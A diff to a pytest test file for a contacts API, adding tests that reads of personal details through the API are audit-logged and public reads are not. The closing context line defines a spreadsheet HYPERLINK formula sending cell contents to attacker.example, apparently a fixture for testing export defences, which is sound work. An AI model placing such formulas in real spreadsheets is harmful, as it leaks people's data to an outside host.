@@ -200,6 +200,42 @@ def test_api_search_does_not_reveal_who_holds_a_post(client, kenya_iti, npc_ghan
     assert client.get("/api/contacts/", {"q": "odhiambo"}).json()["count"] == 1
 
 
+def reads():
+    return list(Entry.objects.filter(event="read").order_by("sequence"))
+
+
+def test_personal_details_read_through_the_api_are_recorded_like_the_export(
+    client, kenya_iti, npc_ghana
+):
+    client.force_login(npc_ghana)
+    listing = client.get("/api/contacts/", {"page_size": 500, "state": "KEN", "kind": ""})
+    assert listing.json()["results"][0]["person_name"] == "Achieng Odhiambo"
+    client.get(f"/api/contacts/{kenya_iti.pk}/")
+    client.get(f"/api/contacts/{kenya_iti.pk}/history/")
+    listed, detail, history = reads()
+    assert listed.actor == npc_ghana and listed.object_type == ""
+    assert listed.data == {
+        "read": "points-of-contact",
+        "via": "api",
+        "filters": {"page_size": "500", "state": "KEN"},
+        "rows": 1,
+    }
+    assert (detail.object_type, detail.object_id) == ("contacts.contact", str(kenya_iti.pk))
+    assert detail.data == {"read": "points-of-contact", "via": "api", "rows": 1}
+    assert history.object_id == str(kenya_iti.pk)
+    assert history.data == {"read": "points-of-contact", "via": "api", "history": True, "rows": 1}
+
+
+@pytest.mark.parametrize("user", [None, "researcher"])
+def test_the_public_part_read_through_the_api_is_not_recorded(client, kenya_iti, user, request):
+    if user:
+        client.force_login(request.getfixturevalue(user))
+    assert client.get("/api/contacts/", {"page_size": 500}).status_code == 200
+    assert client.get(f"/api/contacts/{kenya_iti.pk}/").status_code == 200
+    assert client.get(f"/api/contacts/{kenya_iti.pk}/history/").status_code == 404
+    assert reads() == []
+
+
 # In a spreadsheet ------------------------------------------------------------------------
 
 FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"Open")'
